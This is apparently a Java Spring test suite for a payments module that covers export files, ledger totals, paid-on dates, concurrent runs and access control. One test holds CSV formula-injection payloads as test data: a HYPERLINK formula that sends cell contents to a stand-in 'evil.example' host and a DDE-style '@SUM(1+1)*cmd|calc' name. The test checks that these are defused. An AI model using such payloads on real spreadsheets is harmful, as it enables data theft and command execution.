package org.coproduce.payments;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.coproduce.support.SignedIn.as;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.coproduce.accounts.CurrentUser;
import org.coproduce.accounts.Role;
import org.coproduce.notifications.InProcessMailServer;
import org.coproduce.organisations.Organisation;
import org.coproduce.people.InvolvementRole;
import org.coproduce.people.PersonDetails;
import org.coproduce.projects.CoKind;
import org.coproduce.projects.CyclePhase;
import org.coproduce.projects.ProjectChanges;
import org.coproduce.projects.ProjectDetails;
import org.coproduce.projects.ProjectRole;
import org.coproduce.sessions.SessionDetails;
import org.coproduce.sessions.SessionKind;
import org.coproduce.sessions.Sessions;
import org.coproduce.support.CoproduceTest;
import org.coproduce.support.Fixtures;
import org.coproduce.web.Dates;
import org.coproduce.web.Refused;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

@CoproduceTest
class PaymentRunsTest {

    @Autowired MockMvc mvc;
    @Autowired Fixtures fixtures;
    @Autowired Sessions sessions;
    @Autowired ProjectChanges projects;
    @Autowired Payments rates;
    @Autowired PaymentsRepository claims;
    @Autowired PaymentRuns payments;
    @Autowired PaymentRunRepository runs;
    @Autowired ExpensesRepository expenses;
    @Autowired InProcessMailServer mail;
    @Autowired JdbcClient jdbc;

    Organisation northshire;
    CurrentUser priya;
    CurrentUser grace;
    List<Long> partners = new ArrayList<>();
    LocalDate today = LocalDate.now(Dates.LONDON);

    @BeforeEach
    void setUp() {
        northshire = fixtures.organisation("Northshire Partnership");
        priya = fixtures.coordinator(northshire);
        grace = fixtures.member(northshire, "Grace Adeyemi", "Grace", Role.FINANCE);
        rates.addRate(priya, PaidActivity.ATTENDING, 2_500, 7_500L, 15_000L, 0, LocalDate.now().minusYears(1));
        long project = projects.create(priya, new ProjectDetails("Day services review", "Find out what people want.", null, null,
                CoKind.CO_DESIGN, CyclePhase.ANALYSE, null, null));
        for (String name : List.of("Jamie", "Aisha", "Ben", "Chloe")) {
            long person = fixtures.person(northshire, PersonDetails.basic(name + " Lee", name, Fixtures.email(northshire, name.toLowerCase()),
                    null, Set.of(InvolvementRole.LIVED_EXPERIENCE)));
            projects.addToTeam(priya, project, person, ProjectRole.MEMBER);
            partners.add(person);
        }
        Instant start = Instant.now().minus(Duration.ofDays(5));
        long session = sessions.planForProject(priya, project, new SessionDetails(SessionKind.WORKSHOP, "Design workshop", null, start,
                start.plus(Duration.ofMinutes(90)), "Room 2", null));
        sessions.recordAttendance(priya, session, partners);
        claims.choose(northshire.id(), partners.get(1), claims.claimsOf(northshire.id(), partners.get(1)).get(0).id(), PaymentChoice.VOUCHER);
        for (FeeClaim claim : claims.claimsWithStatus(northshire.id(), ClaimStatus.DRAFT)) {
            if (claim.personId() == partners.get(3)) {
                continue;
            }
            claims.decide(northshire.id(), claim.id(), ClaimStatus.APPROVED, null, priya.personId());
        }
    }

    @Test
    void aRunTakesTheApprovedClaimsAndItsExportReadsBackWithTotalsMatchingTheLedger() throws Exception {
        long run = payments.createRun(grace);

        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace)))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords();
        assertThat(rows).hasSize(3);
        assertThat(rows).extracting(r -> r.get("amount")).containsOnly("37.50");
        assertThat(rows).extracting(r -> r.get("payment_type")).containsExactlyInAnyOrder("FEE", "FEE", "VOUCHER");
        long exported = rows.stream().mapToLong(r -> Long.parseLong(r.get("amount_pence"))).sum();

        payments.markPaid(grace, run, today);

        long inLedger = jdbc.sql("select sum(amount_pence) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single();
        assertThat(inLedger).isEqualTo(exported).isEqualTo(3 * 3_750);
        assertThat(mail.latestTo(Fixtures.email(northshire, "jamie")).orElseThrow().body())
                .contains("We paid you £37.50 on " + Dates.date(today)).contains("for Design workshop");
        assertThat(claims.claimsOf(northshire.id(), partners.get(3)).get(0).status()).isEqualTo(ClaimStatus.DRAFT);
    }

    @Test
    void theExcelExportReadsBackWithTheSameRowsAndATotalMatchingTheLedger() throws Exception {
        long run = payments.createRun(grace);
        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace)))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsByteArray();
        payments.markPaid(grace, run, today);

        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
            var sheet = workbook.getSheet("Payments");
            assertThat(sheet.getRow(0).getCell(5).getStringCellValue()).isEqualTo("amount");
            long pence = 0;
            for (int r = 1; r <= 3; r++) {
                assertThat(sheet.getRow(r).getCell(5).getNumericCellValue()).isEqualTo(37.5);
                assertThat(sheet.getRow(r).getCell(7).getLocalDateTimeCellValue().toLocalDate())
                        .isEqualTo(claims.claimsOf(northshire.id(), partners.get(0)).get(0).sessionDay());
                pence += (long) sheet.getRow(r).getCell(6).getNumericCellValue();
            }
            assertThat(sheet.getRow(4).getCell(3).getStringCellValue()).isEqualTo("Total");
            assertThat((long) sheet.getRow(4).getCell(6).getNumericCellValue()).isEqualTo(pence);
            assertThat(jdbc.sql("select sum(amount_pence) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single())
                    .isEqualTo(pence);
        }
    }

    @Test
    void formulasTypedInAnExpenseOrANameAreDefusedInTheCsvAndAreTextInTheWorkbook() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")";
        CurrentUser mallory = fixtures.member(northshire, "Mallory Evans", "@SUM(1+1)*cmd|calc", Role.PARTNER);
        LocalDate spent = today.minusDays(2);
        mvc.perform(multipart("/your-payments/expenses").with(as(mallory)).with(csrf()).param("kind", "OTHER")
                        .param("spentDay", String.valueOf(spent.getDayOfMonth())).param("spentMonth", String.valueOf(spent.getMonthValue()))
                        .param("spentYear", String.valueOf(spent.getYear())).param("amount", "12").param("description", formula))
                .andExpect(status().is3xxRedirection());
        long expense = expenses.of(northshire.id(), mallory.personId()).get(0).id();
        mvc.perform(post("/payments/expenses/" + expense + "/approve").with(as(priya)).with(csrf())).andExpect(status().is3xxRedirection());
        long run = payments.createRun(grace);

        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords()
                .stream().filter(r -> r.get("payment_type").equals("EXPENSE")).findFirst().orElseThrow();
        assertThat(row.get("payee_name")).isEqualTo("'@SUM(1+1)*cmd|calc");
        assertThat(row.get("description")).isEqualTo("'" + formula);
        assertThat(row.get("amount")).isEqualTo("12.00");

        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace))).andReturn().getResponse().getContentAsByteArray();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
            var sheet = workbook.getSheet("Payments");
            var expenseRow = java.util.stream.IntStream.rangeClosed(1, sheet.getLastRowNum()).mapToObj(sheet::getRow)
                    .filter(r -> "EXPENSE".equals(r.getCell(4).getStringCellValue())).findFirst().orElseThrow();
            assertThat(expenseRow.getCell(8).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(expenseRow.getCell(8).getStringCellValue()).isEqualTo(formula);
            assertThat(expenseRow.getCell(3).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
        }
    }

    @Test
    void financeSaysWhichDayARunWasPaidAndThatDayShowsOnThePagesInTheExportsAndInTheStatement() throws Exception {
        long run = payments.createRun(grace);
        jdbc.sql("update payment_run set created_at = now() - interval '5 days' where id = :run").param("run", run).update();
        LocalDate paidOn = today.minusDays(3);

        mvc.perform(markPaid(run, paidOn)).andExpect(redirectedUrl("/payments/runs/" + run));

        assertThat(runs.run(northshire.id(), run).orElseThrow().paidOn()).isEqualTo(paidOn);
        assertThat(page("/payments/runs/" + run)).contains("Paid on " + Dates.date(paidOn)).contains("fee, paid on " + Dates.date(paidOn));
        assertThat(page("/payments/runs")).contains("paid on " + Dates.date(paidOn));
        assertThat(runs.statement(northshire.id(), partners.get(0))).extracting(StatementLine::paidOn).containsExactly(paidOn);
        assertThat(mail.latestTo(Fixtures.email(northshire, "jamie")).orElseThrow().body())
                .contains("We paid you £37.50 on " + Dates.date(paidOn) + ".").doesNotContain("today");

        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();
        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords())
                .extracting(r -> r.get("paid_on")).containsOnly(paidOn.toString()).hasSize(3);
        byte[] file = mvc.perform(get("/payments/runs/" + run + ".xlsx").with(as(grace))).andReturn().getResponse().getContentAsByteArray();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(file))) {
            var sheet = workbook.getSheet("Payments");
            assertThat(sheet.getRow(0).getCell(9).getStringCellValue()).isEqualTo("paid_on");
            assertThat(sheet.getRow(1).getCell(9).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(paidOn);
        }
    }

    @Test
    void howQuicklyPeopleArePaidCountsToTheDayFinanceSaysTheMoneyLeftNotTheDayItWasMarked() throws Exception {
        long run = payments.createRun(grace);
        jdbc.sql("update payment_run set created_at = now() - interval '4 days' where id = :run").param("run", run).update();

        payments.markPaid(grace, run, today.minusDays(3));

        assertThat(mvc.perform(get("/payments/runs").with(as(grace))).andReturn().getResponse().getContentAsString())
                .contains("half were paid within 2 days of the session");
    }

    @Test
    void aRunNotYetPaidExportsAnEmptyPaidOn() throws Exception {
        long run = payments.createRun(grace);

        String csv = mvc.perform(get("/payments/runs/" + run + ".csv").with(as(grace))).andReturn().getResponse().getContentAsString();

        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords())
                .extracting(r -> r.get("paid_on")).containsOnly("");
    }

    @Test
    void aDayInTheFutureOrBeforeTheRunWasMadeIsRefusedNextToTheFieldAndTheRunStaysUnpaid() throws Exception {
        long run = payments.createRun(grace);
        LocalDate tomorrow = today.plusDays(1);

        String future = mvc.perform(markPaid(run, tomorrow)).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        String before = mvc.perform(markPaid(run, today.minusDays(1))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        String notADay = mvc.perform(post("/payments/runs/" + run + "/paid").with(as(grace)).with(csrf())
                .param("paidOnDay", "31").param("paidOnMonth", "2").param("paidOnYear", String.valueOf(today.getYear())))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();

        assertThat(future).contains("govuk-error-summary").contains("href=\"#paidOn\"").contains("id=\"paidOn-error\"")
                .contains("The day it was paid must be today or in the past")
                .contains("name=\"paidOnYear\" type=\"text\" inputmode=\"numeric\" value=\"" + tomorrow.getYear() + "\"");
        assertThat(before).contains("The day it was paid must be on or after " + Dates.date(today) + ", the day the payment run was made");
        assertThat(notADay).contains("The day it was paid must be a real date");
        assertThat(runs.run(northshire.id(), run).orElseThrow().paid()).isFalse();
        assertThat(jdbc.sql("select count(*) from ledger_entry where run_id = :run").param("run", run).query(Integer.class).single()).isZero();
        assertThatThrownBy(() -> payments.markPaid(grace, run, tomorrow)).isInstanceOf(Refused.class);
    }

    @Test
    void markingARunPaidFromManyPlacesAtOncePaysEachClaimExactlyOnce() throws Exception {
        long run = payments.createRun(grace);

        List<Object> outcomes = together(20, () -> {
            try {
                return payments.markPaid(grace, run, today);
            } catch (Refused refused) {
                return "refused";
            }
        });

        assertThat(outcomes).filteredOn(o -> o.equals(3)).hasSize(1);
        assertThat(outcomes).filteredOn(o -> o.equals("refused")).hasSize(19);
        assertThat(jdbc.sql("select count(*) from ledger_entry where run_id = :run").param("run", run).query(Integer.class).single()).isEqualTo(3);
    }

    @Test
    void runsMadeAtTheSameMomentNeverShareAClaim() throws Exception {
        List<Object> outcomes = together(10, () -> {
            try {
                return payments.createRun(grace);
            } catch (Refused refused) {
                return "nothing";
            }
        });

        List<Long> taken = jdbc.sql("""
                        select rc.claim_id from payment_run_claim rc join payment_run r on r.id = rc.run_id
                        where r.organisation_id = :organisationId""")
                .param("organisationId", northshire.id()).query(Long.class).list();
        assertThat(taken).hasSize(3).doesNotHaveDuplicates();
        assertThat(outcomes).filteredOn(o -> o instanceof Long).isNotEmpty();
    }

    @Test
    void aMistakeIsReversedOnceWithAReasonAndTheLedgerCannotBeChanged() throws Exception {
        long run = payments.createRun(grace);
        payments.markPaid(grace, run, today);
        long entry = jdbc.sql("select min(id) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single();

        mvc.perform(post("/payments/ledger/" + entry + "/reverse").with(as(grace)).with(csrf()))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.containsString("Say why the payment is being reversed")));
        payments.reverse(grace, entry, "Paid to the wrong person");

        assertThatThrownBy(() -> payments.reverse(grace, entry, "Again")).isInstanceOf(Refused.class);
        assertThat(jdbc.sql("select sum(amount_pence) from ledger_entry where run_id = :run").param("run", run).query(Long.class).single())
                .isEqualTo(2 * 3_750);
        assertThatThrownBy(() -> jdbc.sql("update ledger_entry set amount_pence = 1 where id = :id").param("id", entry).update())
                .hasMessageContaining("append-only");
        assertThatThrownBy(() -> jdbc.sql("delete from ledger_entry where id = :id").param("id", entry).update())
                .hasMessageContaining("append-only");
    }

    @Test
    void onlyFinancePaysAndNobodyElseSeesAnotherOrganisationsRuns() throws Exception {
        mvc.perform(post("/payments/runs").with(as(priya)).with(csrf())).andExpect(status().isForbidden());
        mvc.perform(post("/payments/runs").with(as(grace)).with(csrf())).andExpect(status().is3xxRedirection());
        long run = runs.runs(northshire.id()).get(0).id();
        mvc.perform(post("/payments/runs/" + run + "/paid").with(as(priya)).with(csrf())).andExpect(status().isForbidden());
        CurrentUser otherFinance = fixtures.member(fixtures.organisation("Eastvale Carers"), "Ravi Patel", "Ravi", Role.FINANCE);

        mvc.perform(get("/payments/runs/" + run).with(as(otherFinance))).andExpect(status().isNotFound());
        mvc.perform(get("/payments/runs/" + run + ".csv").with(as(otherFinance))).andExpect(status().isNotFound());
        mvc.perform(post("/payments/runs/" + run + "/paid").with(as(otherFinance)).with(csrf())).andExpect(status().isNotFound());
        mvc.perform(get("/payments/runs/" + run).with(as(fixtures.partner(northshire)))).andExpect(status().isForbidden());
        assertThat(runs.run(northshire.id(), run).orElseThrow().paid()).isFalse();
    }

    @Test
    void claimsWaitingLongerThanThePromiseAreFlaggedAndTheSpeedOfPaymentIsShown() throws Exception {
        mvc.perform(get("/home").with(as(grace)))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.not(org.hamcrest.Matchers.containsString("waited longer than"))));
        mvc.perform(post("/payments/promise").with(as(grace)).with(csrf()).param("days", "ninety"))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.containsString("Enter the number of days as a whole number from 1 to 90")));
        mvc.perform(post("/payments/promise").with(as(grace)).with(csrf()).param("days", "3")).andExpect(status().is3xxRedirection());

        mvc.perform(get("/home").with(as(priya)))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.containsString("4 claims have waited longer than 3 days to be paid")));

        payments.markPaid(grace, payments.createRun(grace), today);
        mvc.perform(get("/payments/runs").with(as(grace)))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.containsString("In the last 90 days, 3 payments: half were paid within 5 days")));
        mvc.perform(get("/home").with(as(grace)))
                .andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content()
                        .string(org.hamcrest.Matchers.containsString("1 claim has waited longer than 3 days to be paid")));
    }

    private org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder markPaid(long run, LocalDate day) {
        return post("/payments/runs/" + run + "/paid").with(as(grace)).with(csrf()).param("paidOnDay", String.valueOf(day.getDayOfMonth()))
                .param("paidOnMonth", String.valueOf(day.getMonthValue())).param("paidOnYear", String.valueOf(day.getYear()));
    }

    private String page(String path) throws Exception {
        return mvc.perform(get(path).with(as(grace))).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
    }

    private static List<Object> together(int threads, Callable<Object> task) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        CountDownLatch start = new CountDownLatch(1);
        List<Future<Object>> futures = new ArrayList<>();
        for (int i = 0; i < threads; i++) {
            futures.add(pool.submit(() -> {
                start.await();
                return task.call();
            }));
        }
        start.countDown();
        List<Object> results = new ArrayList<>();
        for (Future<Object> future : futures) {
            results.add(future.get());
        }
        pool.shutdown();
        return results;
    }
}
